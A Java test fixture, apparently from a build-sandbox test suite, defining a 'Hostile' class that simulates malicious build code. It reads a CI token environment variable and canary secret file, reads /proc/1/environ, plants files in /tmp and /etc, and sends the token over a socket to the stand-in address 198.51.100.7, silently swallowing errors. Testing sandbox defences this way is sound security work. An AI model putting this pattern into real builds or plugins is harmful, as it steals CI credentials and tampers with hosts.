package hostile;

import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * What every case of the hostile-tree corpus does, from wherever its case gets code to run (an annotation processor,
 * a plugin execution, a build extension, a Java agent of Maven's JVM, a test): look for the CI job's token, read and
 * plant files on the host (the canary folder the test made at /tmp/sandbox-canary), write to the system, send out.
 * Every failure is swallowed, as real malware would. Copied into each case's sources by HostileTreeIT.
 */
public final class Hostile {

  private Hostile() {}

  public static void attack(String where) {
    String token = System.getenv("SANDBOX_CANARY_TOKEN");
    String secret = quietly(() -> Files.readString(Path.of("/tmp/sandbox-canary/secret.txt")));
    System.out.println("hostile " + where + ": token " + (token == null ? "absent" : token) + ", host file "
        + (secret == null ? "absent" : secret));
    quietly(() -> Files.writeString(Path.of("/tmp/sandbox-canary/planted-" + where), "planted " + token));
    quietly(() -> Files.readString(Path.of("/proc/1/environ")));
    quietly(() -> Files.writeString(Path.of("/etc/sandbox-planted-" + where), "planted"));
    quietly(() -> {
      try (Socket socket = new Socket()) {
        socket.connect(new java.net.InetSocketAddress("198.51.100.7", 80), 2000);
        socket.getOutputStream().write(("token=" + token).getBytes());
      }
      return null;
    });
  }

  private interface Step<T> {
    T run() throws Exception;
  }

  private static <T> T quietly(Step<T> step) {
    try {
      return step.run();
    } catch (Exception | LinkageError hidden) {
      return null;
    }
  }
}
